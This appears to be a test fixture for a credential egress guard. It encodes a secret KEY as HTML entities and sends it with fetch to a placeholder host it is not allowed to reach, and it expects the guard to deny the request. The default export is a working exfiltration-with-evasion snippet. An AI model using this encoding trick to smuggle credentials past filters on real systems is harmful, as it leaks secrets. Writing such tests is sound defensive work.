export const attempt = {
  tries: "to send an exposed value to another host in HTML entities",
  blockedBecause: "each character is found plain and as an entity",
  ends: { code: "egress_denied", message: "the credential KEY is not allowed for this host" },
  hostUsage: { host: "{other}", reason: "the credential KEY is not allowed for this host" },
  allowedHosts: ["http://{witness}", "http://{other}"],
  keyHosts: ["http://{witness}"],
  keyIsExposed: true,
};

export default async ({ other }, { credentials }) => {
  const body = credentials.KEY.replace(/[_-]/g, (one) => `&#${one.charCodeAt(0)};`);
  await fetch(`http://${other}/reached`, { method: "PUT", body });
  return "got through";
};
